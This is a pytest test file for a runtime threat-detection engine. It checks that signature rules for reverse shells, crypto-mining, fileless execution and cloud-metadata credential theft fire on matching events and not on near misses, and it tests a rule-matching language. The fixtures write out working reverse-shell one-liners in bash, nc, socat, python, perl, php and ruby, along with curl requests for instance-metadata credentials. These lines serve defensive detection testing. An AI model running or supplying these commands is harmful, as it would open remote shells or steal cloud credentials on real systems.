"""Signature rules (no baseline needed): each shipped one fires on an event that has its
shape and not on a near miss; the match language, operator by operator; alerts are
content-derived, carry their events' ids and are valid OCSF Detection Findings."""
import hashlib
from itertools import count

import pytest
from detect_ocsf_checks import assert_valid

from weft.detect.core.detector import Detector
from weft.detect.core.matching import compile_match
from weft.detect.core.rulefile import RuleSet
from weft.v1 import event_pb2 as pb

E = pb.RuntimeEvent
T0 = 1_767_225_600
_ids = count(1)


def event(kind: str, t: float = 0, *, ns="agents", name="bot", cluster="eks-prod", exe="/usr/bin/python3",
          args=("python3", "bot.py"), labels=None, **payload) -> E:
    ev = E(event_id=f"sig-{next(_ids)}", kind=E.Kind.Value(kind), count=1,
           node=pb.Node(cluster=cluster, provider=pb.Node.AWS, region="us-east-1", name="node-1"),
           workload=pb.Workload(namespace=ns, pod=f"{name}-0", container=name, container_id=f"{cluster}/{name}-0",
                                kind="Deployment", name=name, service_account=name, image=f"lab/{name}:1",
                                labels=labels or {}) if name else None,
           process=pb.Process(pid=100, ppid=1, exe=exe, args=list(args), comm=exe.rpartition("/")[2], uid=1000),
           **payload)
    ev.time.FromNanoseconds(int((T0 + t) * 1e9))
    return ev


def decision(verdict: str) -> E:
    return event("POLICY_DECISION", policy=pb.PolicyDecision(name="bot", mode="enforce",
                                                             verdict=pb.PolicyDecision.Verdict.Value(verdict)))


def run(*argv: str) -> E:
    exe = argv[0] if argv[0].startswith("/") else f"/usr/bin/{argv[0]}"
    return event("PROCESS_EXEC", exe=exe, args=argv)


def connect(host: str, port: int, ip: str = "198.51.100.7") -> E:
    return event("NETWORK_CONNECT", network=pb.Network(dst_ip=ip, dst_port=port, protocol=pb.Network.TCP,
                                                       dns_name=host))


def http(host: str, path: str) -> E:
    return event("HTTP_REQUEST", http=pb.Http(method="GET", host=host, path=path, side="client"))


SHIPPED = RuleSet.load()
REVERSE_SHELLS = [
    run("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    run("nc", "-e", "/bin/sh", "10.0.0.1", "4444"),
    run("ncat", "10.0.0.1", "4444", "--sh-exec", "/bin/bash"),
    run("socat", "exec:bash -li,pty,stderr,setsid", "tcp:10.0.0.1:4444"),
    run("sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"),
    run("python3", "-c", "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));"
                         "os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"),
    run("perl", "-e", 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));'
                      'open(STDIN,">&S");exec("/bin/sh -i");'),
    run("php", "-r", '$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'),
    run("ruby", "-rsocket", "-e", 'f=TCPSocket.open("10.0.0.1",4444).to_i;exec sprintf("/bin/sh -i <&%d",f)'),
    run("telnet", "10.0.0.1", "4444", "|", "/bin/sh"),
]
NOT_REVERSE_SHELLS = [
    run("nc", "-z", "db.data.svc", "5432"), run("nc", "-q", "1", "--recv-only", "files.svc", "9000"),
    run("socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"), run("bash", "-c", "echo ok > /dev/null"),
    run("python3", "-c", "import socket; print(socket.gethostname())"), run("curl", "-s", "https://example.com"),
]
CASES = [  # rule id, events that have its shape, events that do not
    ("policy_block", [decision("BLOCK")], [decision("AUDIT"), decision("ALLOW")]),
    ("policy_would_block", [decision("AUDIT")], [decision("BLOCK"), decision("ALLOW")]),
    ("exec_from_dev_shm", [run("/dev/shm/.x", "-d"), run("/run/shm/kworker")], [run("/tmp/x"), run("/dev/shmx/a")]),
    ("fileless_execution", [run("/memfd:payload (deleted)"), run("/proc/self/fd/3"), run("/proc/812/fd/5")],
     [run("/usr/bin/env"), run("/proc/self/exe")]),
    ("reverse_shell", REVERSE_SHELLS, NOT_REVERSE_SHELLS),
    ("crypto_miner_process", [run("/opt/bin/XMRig", "--config", "c.json"),
                              run("/tmp/.cache/sysupdate", "-o", "stratum+tcp://pool.example:3333", "-u", "w"),
                              run("/tmp/k", "--donate-level=1", "-o", "x:1")],
     [run("python3", "miner_report.py"), run("/usr/bin/xmrig-helper")]),
    ("mining_pool_connection", [connect("xmr-eu1.nanopool.org", 14444), connect("supportxmr.com", 443),
                                event("DNS_QUERY", dns=pb.Dns(query="POOL.SupportXMR.com."))],
     [connect("api.openai.com", 443), event("DNS_QUERY", dns=pb.Dns(query="supportxmr.com.evil.example"))]),
    ("stratum_port_connection", [connect("", 14444), connect("", 3333, ip="203.0.113.50")],
     [connect("", 14444, ip="10.3.0.5"), connect("", 14444, ip="172.20.1.1"), connect("", 443)]),
    ("cloud_metadata_credential_theft",
     [http("169.254.169.254", "/latest/meta-data/iam/security-credentials/node-role"),
      http("169.254.169.254", "/metadata/identity/oauth2/token?api-version=2018-02-01"),
      http("metadata.google.internal", "/computeMetadata/v1/instance/service-accounts/default/token"),
      run("curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")],
     [http("169.254.169.254", "/latest/meta-data/placement/region"),
      http("example.com", "/latest/meta-data/iam/security-credentials/x"),
      run("curl", "-s", "http://example.com/latest/meta-data/iam/security-credentials/")]),
]


def fired(events: list[E], rules=SHIPPED) -> list[str]:
    return [a.rule.id for a in Detector(rules).observe(events)]


@pytest.mark.parametrize("rule_id,hits,misses", CASES, ids=[c[0] for c in CASES])
def test_signature_rule_fires_on_its_shape_only(rule_id, hits, misses):
    for ev in hits:
        assert rule_id in fired([ev]), f"{rule_id} missed {ev.kind} {list(ev.process.args) or ev}"
    for ev in misses:
        assert rule_id not in fired([ev]), f"{rule_id} fired on {list(ev.process.args) or ev}"


def test_every_shipped_signature_rule_is_in_the_table():
    signatures = {r.id for r in SHIPPED if r.kind == "signature" and r.after is None}
    assert signatures == {c[0] for c in CASES}


def test_signature_rules_need_no_profile_and_cover_host_processes():
    alerts = Detector(SHIPPED, {}).observe([event("PROCESS_EXEC", name="", exe="/dev/shm/x", args=["/dev/shm/x"])])
    assert [(a.rule.id, a.agent) for a in alerts] == [("exec_from_dev_shm", "")]


def test_alert_ids_are_content_derived_and_carry_event_ids():
    ev = run("/dev/shm/x")
    first, again = Detector(SHIPPED).observe([ev]), Detector(SHIPPED).observe([ev])
    assert [a.id for a in first] == [a.id for a in again]
    (alert,) = first
    assert alert.event_ids == (ev.event_id,)
    assert alert.id == hashlib.sha256(f"exec_from_dev_shm\0{ev.event_id}".encode()).hexdigest()[:32]


def test_signature_alert_is_a_valid_ocsf_detection_finding():
    (alert,) = Detector(SHIPPED).observe([http("169.254.169.254", "/latest/meta-data/iam/security-credentials/r")])
    finding = alert.to_ocsf()
    assert_valid(finding)
    info = finding["finding_info"]
    assert (finding["class_uid"], finding["severity"], finding["metadata"]["product"]["uid"]) == (2004, "High", "weft")
    assert info["uid"] == alert.id and info["analytic"]["uid"] == "cloud_metadata_credential_theft"
    assert {"tactic": {"uid": "TA0006", "name": "Credential Access"}} in info["attacks"]
    assert {"technique": {"uid": "T1552.005", "name": "Cloud Instance Metadata API"}} in info["attacks"]
    assert [e["uid"] for e in finding["evidences"]] == list(alert.event_ids)
    assert finding["cloud"]["provider"] == "AWS"
    assert {"name": "bot-0", "type": "Kubernetes Pod", "namespace": "agents", "role_id": 1} in finding["resources"]


LABELLED = event("FILE_OPEN", ns="team-a", cluster="gke-dev", labels={"team": "sre"},
                 file=pb.File(path="/Data/Report.CSV", flags=["O_RDONLY", "O_CLOEXEC"]))
LANGUAGE = [  # condition, whether it holds for LABELLED
    ({"field": "file.path", "equals": "/Data/Report.CSV"}, True),
    ({"field": "file.path", "equals": "/data/report.csv"}, False),
    ({"field": "file.path", "equals": "/data/report.csv", "ignore_case": True}, True),
    ({"field": "file.path", "in": ["/a", "/Data/Report.CSV"]}, True),
    ({"field": "file.path", "prefix": ["/etc/", "/Data/"]}, True),
    ({"field": "file.path", "suffix": ".csv"}, False),
    ({"field": "file.path", "suffix": ".csv", "ignore_case": True}, True),
    ({"field": "file.path", "contains": "Report"}, True),
    ({"field": "file.path", "glob": "/*.CSV"}, True),              # * crosses /
    ({"field": "file.path", "glob": "/Data/?eport.CSV"}, True),
    ({"field": "file.path", "glob": "/Data/[xyz]*"}, False),
    ({"field": "file.path", "regex": r"Rep(ort)?\.C"}, True),
    ({"field": "file.path", "regex": [r"(?i)report\.csv$", "^/nope"]}, True),
    ({"field": "file.flags", "equals": "O_CLOEXEC"}, True),       # a list field: any element
    ({"field": "file.flags", "equals": "O_WRONLY"}, False),
    ({"field": "process.args", "contains": "bot.py"}, True),
    ({"field": "process.name", "equals": "python3"}, True),
    ({"field": "process.cmdline", "equals": "python3 bot.py"}, True),
    ({"field": "process.uid", "between": [1000, 1999]}, True),
    ({"field": "process.uid", "in": [0]}, False),
    ({"field": "count", "equals": 1}, True),
    ({"field": "kind", "in": ["FILE_OPEN", "PROCESS_EXEC"]}, True),
    ({"field": "node.provider", "equals": "AWS"}, True),
    ({"field": "node.cluster", "equals": "gke-dev"}, True),
    ({"field": "workload.labels.team", "equals": "sre"}, True),
    ({"field": "workload.labels.missing", "equals": ""}, True),
    ({"field": "agent", "equals": "team-a/bot"}, True),
    ({"not": {"field": "file.path", "prefix": "/Data/"}}, False),
    ({"any": [{"field": "file.path", "prefix": "/etc/"}, {"field": "agent", "equals": "team-a/bot"}]}, True),
    ({"all": [{"field": "file.path", "prefix": "/Data/"}, {"field": "process.uid", "equals": 0}]}, False),
    ({"any": [{"field": "network.dst_port", "equals": 443}, {"field": "file.path", "contains": "CSV"}]}, True),
    ({"not": {"field": "file.path", "regex": "Report"}}, False),
    ({"all": [{"field": "file.path", "glob": "/Data/*"}, {"field": "file.path", "regex": "CSV$"},
              {"field": "process.name", "in": ["python3"]}]}, True),
    ({"all": [{"field": "file.path", "glob": "/Data/*"}, {"field": "file.path", "regex": "^/etc"},
              {"field": "process.name", "in": ["python3"]}]}, False),
    ({"any": [{"field": "file.path", "regex": "^/etc"}, {"field": "process.uid", "equals": 0},
              {"field": "file.path", "glob": "*.CSV"}]}, True),
    ({"any": [{"field": "file.path", "regex": "^/etc"}, {"field": "process.uid", "equals": 0},
              {"field": "file.path", "glob": "*.txt"}]}, False),
]


@pytest.mark.parametrize("condition,holds", LANGUAGE, ids=[str(c[0])[:60] for c in LANGUAGE])
def test_match_language(condition, holds):
    predicate = compile_match(condition, E.FILE_OPEN)
    assert bool(predicate if isinstance(predicate, bool) else predicate(LABELLED, "team-a/bot")) is holds


@pytest.mark.parametrize("condition,constant", [
    ({"field": "network.dst_port", "equals": 443}, False),                          # never on FILE_OPEN
    ({"field": "kind", "equals": "FILE_OPEN"}, True),
    ({"not": {"field": "dns.query", "equals": "x"}}, True),
    ({"all": [{"field": "kind", "equals": "PROCESS_EXEC"}, {"field": "file.path", "equals": "/x"}]}, False),
])
def test_conditions_fold_to_a_constant_for_an_event_kind(condition, constant):
    assert compile_match(condition, E.FILE_OPEN) is constant
